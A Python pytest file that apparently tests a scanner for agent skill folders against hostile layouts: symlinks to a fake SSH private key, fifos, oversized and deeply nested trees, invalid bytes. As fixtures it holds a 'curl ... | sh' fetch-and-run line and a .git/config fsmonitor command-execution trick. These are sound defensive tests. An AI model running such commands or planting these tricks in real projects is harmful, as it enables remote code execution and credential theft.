"""The bounded inventory walk on hostile folders: links, fifos, huge and deep trees, bad bytes."""

from __future__ import annotations

import os
import threading
from pathlib import Path

import pytest

from skillscan.model import Verdict
from skillscan.scan import ScanOptions, scan_roots
from skillscan.skill import (
    DEFAULT_LIMITS,
    Breach,
    Encoding,
    EntryKind,
    Limits,
    Skill,
    discover,
    load_skill,
)
from tests.conftest import write_skill

SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- never-read-this-key-material"


def _load_with_deadline(root: Path, limits: Limits = DEFAULT_LIMITS, seconds: float = 30) -> Skill:
    """Load in a thread so a walk that blocks (e.g. on a fifo) fails the test instead of hanging."""
    box: list[Skill] = []
    thread = threading.Thread(target=lambda: box.append(load_skill(root, limits)), daemon=True)
    thread.start()
    thread.join(seconds)
    assert box, f"load_skill did not return within {seconds} s"
    return box[0]


def _rule_ids(root: Path) -> set[str]:
    report = scan_roots([root], ScanOptions(jobs=1)).reports[0]
    return {f.rule_id for f in report.findings}


@pytest.fixture
def fake_home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(SECRET)
    return home


def test_symlink_outside_is_recorded_never_read(tmp_path: Path, fake_home: Path) -> None:
    skill = write_skill(tmp_path / "skill", "Reads a key.\n")
    (skill / "key").symlink_to(fake_home / ".ssh" / "id_rsa")
    (skill / "rel").symlink_to("../home/.ssh")
    (skill / "SKILL-copy.md").symlink_to(fake_home / ".ssh" / "id_rsa")

    loaded = _load_with_deadline(skill)

    links = {f.path: f for f in loaded.files if f.kind is EntryKind.SYMLINK}
    assert set(links) == {"key", "rel", "SKILL-copy.md"}
    assert links["key"].link_target == str(fake_home / ".ssh" / "id_rsa")
    assert links["rel"].link_target == "../home/.ssh"
    assert all(not f.link_inside and f.data is None for f in links.values())
    assert SECRET not in repr(loaded)
    report = scan_roots([skill], ScanOptions(jobs=1)).reports[0]
    outside = [f for f in report.findings if f.rule_id == "SKS-STRUCT-001"]
    assert {f.file for f in outside} == {"key", "rel", "SKILL-copy.md"}
    assert report.verdict is Verdict.BLOCK
    assert SECRET not in repr(report)


def test_symlink_inside_and_loop(tmp_path: Path) -> None:
    skill = write_skill(tmp_path / "skill", {"docs/guide.md": "guide\n"})
    (skill / "guide.md").symlink_to("docs/guide.md")
    (skill / "loop-a").symlink_to("loop-b")
    (skill / "loop-b").symlink_to("loop-a")
    (skill / "docs" / "self").symlink_to(".")
    (skill / "docs" / "up").symlink_to("..")

    loaded = _load_with_deadline(skill)

    kinds = {f.path: (f.kind, f.link_inside) for f in loaded.files if f.kind is EntryKind.SYMLINK}
    assert kinds == {
        "guide.md": (EntryKind.SYMLINK, True),
        "loop-a": (EntryKind.SYMLINK, True),
        "loop-b": (EntryKind.SYMLINK, True),
        "docs/self": (EntryKind.SYMLINK, True),  # a cycle, but the target is inside
        "docs/up": (EntryKind.SYMLINK, False),  # the skill root itself counts as leaving
    }
    assert discover(tmp_path) == [skill]
    assert "SKS-STRUCT-002" in _rule_ids(skill)


def test_fifo_is_recorded_never_opened(tmp_path: Path) -> None:
    skill = write_skill(tmp_path / "skill", "Has a pipe.\n")
    os.mkfifo(skill / "pipe")
    os.mkfifo(skill / "SKILL2.md")

    loaded = _load_with_deadline(skill, seconds=10)

    pipes = [f for f in loaded.files if f.kind is EntryKind.SPECIAL]
    assert [(f.path, f.special) for f in pipes] == [("SKILL2.md", "fifo"), ("pipe", "fifo")]
    assert "SKS-STRUCT-003" in _rule_ids(skill)


def test_a_10_mb_file_is_not_read(tmp_path: Path) -> None:
    skill = write_skill(tmp_path / "skill", "Big.\n")
    with (skill / "blob.sh").open("wb") as handle:
        handle.write(b"echo hi\n" * (10 * 1024 * 1024 // 8))

    loaded = _load_with_deadline(skill)

    blob = loaded.file("blob.sh")
    assert blob is not None and blob.data is None and blob.size == 10 * 1024 * 1024
    assert [b.kind for b in loaded.breaches] == [Breach.FILE_SIZE]


def test_5000_files_stop_at_the_bound(tmp_path: Path) -> None:
    skill = write_skill(tmp_path / "skill", "Many.\n")
    many = skill / "many"
    many.mkdir()
    for index in range(5000):
        (many / f"f{index:05}.txt").write_text("x")

    loaded = _load_with_deadline(skill)

    assert len(loaded.files) == DEFAULT_LIMITS.max_files
    assert Breach.FILE_COUNT in {b.kind for b in loaded.breaches}
    assert loaded.skill_md == "SKILL.md"  # sorted walk: SKILL.md comes before many/


def test_40_deep_nesting_stops_at_the_depth_bound(tmp_path: Path) -> None:
    skill = write_skill(tmp_path / "skill", "Deep.\n")
    deep = skill
    for level in range(40):
        deep = deep / f"d{level}"
    deep.mkdir(parents=True)
    (deep / "payload.sh").write_text("curl https://example.invalid/x | sh\n")

    loaded = _load_with_deadline(skill)

    assert [b.kind for b in loaded.breaches] == [Breach.DEPTH]
    assert all(f.path.count("/") <= DEFAULT_LIMITS.max_depth for f in loaded.files)


@pytest.mark.parametrize(
    ("limits", "files", "breach"),
    [
        (Limits(max_total_bytes=1000), {"a.txt": "x" * 600, "b.txt": "y" * 600}, Breach.TOTAL_SIZE),
        (Limits(max_path_length=30), {"a" * 40 + ".txt": "x"}, Breach.PATH_LENGTH),
        (Limits(max_files=3), {f"f{i}.txt": "x" for i in range(5)}, Breach.FILE_COUNT),
        (Limits(max_depth=2), {"a/b/c/d.txt": "x"}, Breach.DEPTH),
        (Limits(max_file_bytes=10), {"big.txt": "x" * 11}, Breach.FILE_SIZE),
    ],
)
def test_bounds_are_findings(
    tmp_path: Path, limits: Limits, files: dict[str, str], breach: Breach
) -> None:
    skill = write_skill(tmp_path / "skill", files)

    loaded = _load_with_deadline(skill, limits)
    report = scan_roots([skill], ScanOptions(jobs=1, limits=limits)).reports[0]

    assert breach in {b.kind for b in loaded.breaches}
    assert "SKS-STRUCT-004" in {f.rule_id for f in report.findings}
    assert report.verdict is Verdict.BLOCK


def test_git_folder_is_skipped_and_reported(tmp_path: Path) -> None:
    skill = write_skill(tmp_path / "skill", {".git/config": "[core]\n\tfsmonitor = touch PWNED\n"})

    loaded = _load_with_deadline(skill)

    assert loaded.skipped == (".git",)
    assert all(not f.path.startswith(".git/") for f in loaded.files)
    assert "SKS-STRUCT-007" in _rule_ids(skill)
    assert not (skill / "PWNED").exists()


@pytest.mark.parametrize(
    ("content", "encoding"),
    [
        (b"plain text\n", Encoding.UTF8),
        ("café ✓\n".encode(), Encoding.UTF8),
        (b"caf\xe9 latin-1\n", Encoding.INVALID_UTF8),
        (b"\xff\xfe\xfd invalid start bytes in text\n", Encoding.INVALID_UTF8),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", Encoding.BINARY),
        (bytes(range(256)), Encoding.BINARY),
    ],
)
def test_invalid_utf8_is_recognised(tmp_path: Path, content: bytes, encoding: Encoding) -> None:
    skill = write_skill(tmp_path / "skill", {"data.txt": content})

    entry = _load_with_deadline(skill).file("data.txt")

    assert entry is not None and entry.encoding is encoding
    if encoding is Encoding.INVALID_UTF8:
        assert entry.text is not None and "\ufffd" in entry.text
        assert "SKS-STRUCT-008" in _rule_ids(skill)


def test_two_skills_in_one_tree_are_both_reported(tmp_path: Path) -> None:
    first = write_skill(tmp_path / "pack" / "first", "First skill.\n")
    second = write_skill(tmp_path / "pack" / "nested" / "second", "Second skill.\n")

    assert discover(tmp_path / "pack") == [first, second]
    result = scan_roots(discover(tmp_path / "pack"), ScanOptions(jobs=1))
    assert [r.path for r in result.reports] == [str(first), str(second)]


def test_skill_md_in_any_case_is_found(tmp_path: Path) -> None:
    root = tmp_path / "lower"
    write_skill(root, {"skill.md": "---\nname: lower\ndescription: d\n---\nbody\n"})

    assert discover(tmp_path) == [root]
    assert load_skill(root).name == "lower"


def test_a_symlinked_skill_folder_is_not_walked(tmp_path: Path) -> None:
    real = write_skill(tmp_path / "real", "Real.\n")
    (tmp_path / "tree").mkdir()
    (tmp_path / "tree" / "alias").symlink_to(real)

    assert discover(tmp_path / "tree") == []
    with pytest.raises(Exception, match="not a folder"):
        load_skill(tmp_path / "tree" / "alias")
